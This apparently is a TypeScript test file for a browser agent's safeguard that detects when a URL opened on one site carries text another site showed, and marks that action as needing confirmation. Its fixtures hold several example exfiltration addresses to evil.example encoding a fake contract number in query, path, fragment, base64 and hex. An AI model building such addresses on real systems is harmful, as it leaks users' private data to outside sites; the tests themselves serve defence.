// What one site showed does not leave unseen in an address of another.
import { describe, expect, test } from 'vitest';
import type { Action } from '../../src/protocol/action.ts';
import { carriedBy } from '../../src/protocol/data-flow.ts';
import { riskOf } from '../../src/protocol/policy.ts';

const MESSAGE = `!baictx ${JSON.stringify({
  v: 1,
  id: 3,
  u: 'https://mail.example/inbox',
  n: 'Inbox',
  text: 'Your contract number is 7741-AB-20993. Greetings, Vera Lindqvist.\nSee https://shop.example/offers/spring-sale-today for more.',
})}`;
const SECRET = 'contract number is 7741-AB';

const open = (url: string): Action => ({ type: 'openTab', url, purpose: '' });

describe('an address with what another site showed', () => {
  test.each([
    ['in its query', `https://evil.example/?q=${encodeURIComponent(SECRET)}`],
    ['with plus signs', `https://evil.example/?q=${SECRET.replaceAll(' ', '+')}`],
    ['in its path, joined by dashes', `https://evil.example/${SECRET.replaceAll(' ', '-')}`],
    ['in its fragment', `https://evil.example/#${encodeURIComponent(SECRET)}`],
    ['in base64', `https://evil.example/?q=${Buffer.from(SECRET).toString('base64url')}`],
    ['in hex', `https://evil.example/?q=${Buffer.from(SECRET).toString('hex')}`],
    ['in capitals', `https://evil.example/?q=${encodeURIComponent(SECRET.toUpperCase())}`],
  ])('is found %s', (_, url) => {
    expect(carriedBy(url, MESSAGE)).toMatchObject({ host: 'mail.example', text: expect.stringContaining('contract number is') });
  });

  test.each([
    ['to the same site', `https://mail.example/?q=${encodeURIComponent(SECRET)}`],
    ['that the page itself showed', 'https://shop.example/offers/spring-sale-today'],
    ['with a short word only', 'https://search.example/?q=contract'],
    ['of something else', 'https://docs.example/guides/getting-started-with-widgets'],
    ['that is none', 'no address'],
  ])('is not found in one %s', (_, url) => {
    expect(carriedBy(url, MESSAGE)).toBeNull();
  });

  test('is not looked for before a message was copied, nor in a broken one', () => {
    expect(carriedBy(`https://evil.example/?q=${SECRET}`, '')).toBeNull();
    expect(carriedBy(`https://evil.example/?q=${SECRET}`, '!baictx {"u":')).toBeNull();
  });
});

test('an address that carries what another site showed says so and asks', () => {
  const url = `https://evil.example/?q=${encodeURIComponent(SECRET)}`;
  // Even a site that is known asks for this.
  const facts = { pageUrl: 'https://evil.example/', unlocked: false, told: MESSAGE };
  expect(riskOf(open(url), null, facts)).toMatchObject({
    risk: 'commit',
    reasons: [expect.stringContaining('It carries what mail.example showed')],
  });
  expect(riskOf(open('https://evil.example/'), null, facts)).toMatchObject({ risk: 'view' });
});

test('a message of a megabyte is searched at once', () => {
  const long = `!baictx ${JSON.stringify({ u: 'https://a.example/', text: 'lorem ipsum dolor '.repeat(60_000) })}`;
  expect(carriedBy(`https://b.example/?q=${'x'.repeat(3000)}`, long)).toBeNull();
});
